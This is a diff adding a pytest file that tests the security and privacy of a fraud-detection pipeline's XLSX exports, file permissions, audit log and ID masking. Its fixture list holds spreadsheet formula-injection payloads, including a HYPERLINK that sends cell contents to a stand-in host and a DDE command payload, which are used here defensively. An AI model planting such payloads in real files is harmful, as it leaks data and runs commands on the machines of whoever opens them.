@@ -1,0 +1,168 @@
+"""Security and privacy of what fundwatch writes: no formula can be smuggled into any XLSX, the store
+and every output are owner-only, every export and every applied return is audited with its file's
+sha256, and no message fundwatch logs or raises carries a full ID number."""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+import json
+import re
+import stat
+import zipfile
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from pipelines import flows, report, returns, runlock, worklists
+from pipelines.casework import OUTCOME_LABELS
+from pipelines.normalise import check_digit
+from pipelines.store import connect, scalar
+
+AS_OF = dt.date(2026, 11, 20)
+AGENCY = "360702"
+PID = "36070219500101001" + check_digit("36070219500101001")
+INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0",
+              "\t=1+1"]
+
+
+def _suspect(con, sid, name, agency=AGENCY, person_id=PID, amount="1200.00"):
+    con.execute(
+        "insert into suspects (suspect_id, rule_id, subject, person_id, agency_code, period_from, period_to, amount,"
+        " status, first_detected_on, last_detected_on, name, evidence) values"
+        " (?, 'PAID_AFTER_DEATH', ?, ?, ?, '202609', '202610', ?, '待下发', ?, ?, ?, ?)",
+        [sid, person_id, person_id, agency, Decimal(amount), AS_OF, AS_OF, name,
+         json.dumps({"note": name}, ensure_ascii=False)])
+
+
+@pytest.fixture
+def con(tmp_path):
+    c = connect(tmp_path / "fw.duckdb")
+    c.execute("insert into agencies (agency_code, agency_name, region_code, parent_code) values (?, ?, ?, ?)",
+              [AGENCY, INJECTIONS[0], AGENCY, "360700"])
+    for i, text in enumerate(INJECTIONS):
+        _suspect(c, f"PAD-{i:010d}", text)
+    yield c
+    c.close()
+
+
+def _sheets(path: Path) -> dict[str, str]:
+    with zipfile.ZipFile(path) as z:
+        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}
+
+
+def _styles(path: Path) -> str:
+    with zipfile.ZipFile(path) as z:
+        return z.read("xl/styles.xml").decode("utf-8")
+
+
+def _assert_no_formula_and_text_is_quote_prefixed(path: Path, texts: list[str]) -> None:
+    sheets = _sheets(path)
+    assert sheets
+    for name, xml in sheets.items():
+        assert "<f>" not in xml and "<f " not in xml, f"{path.name} {name} holds a formula"
+    assert 'quotePrefix="1"' in _styles(path)
+    wb = openpyxl.load_workbook(path)
+    try:
+        seen = {}
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    if cell.value in texts:
+                        seen[cell.value] = cell
+        for text in texts:
+            cell = seen.get(text)
+            assert cell is not None, f"{text!r} not written to {path.name}"
+            assert cell.data_type == "s" and cell.quotePrefix, f"{text!r} in {path.name} is not protected text"
+    finally:
+        wb.close()
+
+
+def test_worklist_cells_that_look_like_formulas_stay_quote_prefixed_text(con, tmp_path):
+    [path] = worklists.write_worklists(con, tmp_path / "out", AS_OF)
+    _assert_no_formula_and_text_is_quote_prefixed(path, INJECTIONS[:-1] + [INJECTIONS[0]])
+
+
+def test_summary_workbook_agency_name_that_looks_like_a_formula_stays_text(con, tmp_path):
+    paths = report.write_report(con, tmp_path / "out", AS_OF)
+    text = openpyxl.load_workbook(paths.summary)["汇总表"]
+    names = [c.value for row in text.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert names, "the agency name did not reach the 汇总表"
+    _assert_no_formula_and_text_is_quote_prefixed(paths.summary, names[:1])
+
+
+def _mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+def test_store_wal_output_folder_and_files_are_owner_only_while_the_store_is_held(tmp_path):
+    db, out = tmp_path / "store" / "fw.duckdb", tmp_path / "out"
+    with runlock.hold(db, "test"):
+        c = connect(db)
+        c.execute("insert into agencies (agency_code, agency_name) values (?, ?)", [AGENCY, "章贡区社保局"])
+        _suspect(c, "PAD-0000000001", "张三")
+        wal = db.with_name(db.name + ".wal")
+        assert wal.exists(), "expected DuckDB to keep the write in its WAL"
+        assert _mode(wal) == 0o600
+        written = worklists.write_worklists(c, out, AS_OF)
+        paths = report.write_report(c, out, AS_OF)
+        c.close()
+    assert _mode(db) == 0o600
+    assert _mode(out) == 0o700
+    for path in [*written, paths.dashboard, paths.summary]:
+        assert _mode(path) == 0o600, path.name
+    assert _mode(runlock.lock_path(db)) == 0o600
+
+
+def test_every_export_and_every_applied_return_is_audited_with_who_when_hash_and_suspects(con, tmp_path):
+    [path] = worklists.write_worklists(con, tmp_path / "out", AS_OF, actor="clerk-a")
+    paths = report.write_report(con, tmp_path / "out", AS_OF, actor="clerk-a")
+    wb = openpyxl.load_workbook(path)
+    ws = wb["疑点清单"]
+    header = [c.value for c in ws[1]]
+    ws.cell(row=2, column=header.index("核实结果") + 1, value=OUTCOME_LABELS[7])
+    ws.cell(row=2, column=header.index("核实说明") + 1, value="经核实无问题")
+    returned = tmp_path / "returned.xlsx"
+    wb.save(returned)
+    result = returns.apply_returns(con, [returned], AS_OF + dt.timedelta(days=3), actor="clerk-b")
+    assert len(result.applied) == 1
+
+    rows = con.execute("select happened_at, actor, action, file, file_hash, suspect_ids from audit_log"
+                       " order by happened_at").fetchall()
+    by_action = {r[2]: r for r in rows}
+    for action, file, actor in (("export_worklist", path, "clerk-a"), ("export_summary", paths.summary, "clerk-a"),
+                                ("export_dashboard", paths.dashboard, "clerk-a"), ("apply_return", returned, "clerk-b")):
+        happened_at, who, _action, name, digest, _ids = by_action[action]
+        assert isinstance(happened_at, dt.datetime) and who == actor
+        assert name == str(file) and digest == hashlib.sha256(Path(file).read_bytes()).hexdigest(), action
+    issued = json.loads(by_action["export_worklist"][5])
+    assert sorted(issued) == sorted(r[0] for r in con.execute("select suspect_id from suspects").fetchall())
+    assert json.loads(by_action["apply_return"][5]) == [result.applied[0].suspect_id]
+
+
+def test_messages_fundwatch_logs_or_raises_mask_full_id_numbers():
+    legacy = PID[:6] + PID[8:17]
+    text = f"Conversion Error: Could not convert string '{PID}' to INT64; legacy {legacy}; lower {PID[:-1]}x"
+    scrubbed = flows.scrub(text)
+    assert PID not in scrubbed and legacy not in scrubbed and PID[:-1] + "x" not in scrubbed
+    assert PID[:6] + "********" + PID[-4:] in scrubbed
+    # a money amount or a payment id is left alone
+    assert flows.scrub("amount 80000.00, payment P202611-7") == "amount 80000.00, payment P202611-7"
+    failed = flows.StepFailed("detect", flows._one_line(ValueError(text)))
+    assert PID not in str(failed)
+
+
+def test_no_print_or_log_call_in_pipelines_formats_a_raw_person_id():
+    """A static guard: no print/log line interpolates person_id unmasked."""
+    root = Path(flows.__file__).parent
+    offenders = []
+    call = re.compile(r"\b(print|log\.(?:info|warning|error|debug)|logger\.\w+|progress)\(")
+    for source in sorted(root.glob("*.py")):
+        if source.name.startswith(("generate", "bench")):
+            continue  # the synthetic generator prints only counts; its ids are synthetic
+        for number, line in enumerate(source.read_text(encoding="utf-8").splitlines(), start=1):
+            if call.search(line) and re.search(r"\bperson_id\b|\bpid\b", line) and "mask_id" not in line:
+                offenders.append(f"{source.name}:{number}: {line.strip()}")
+    assert not offenders, offenders
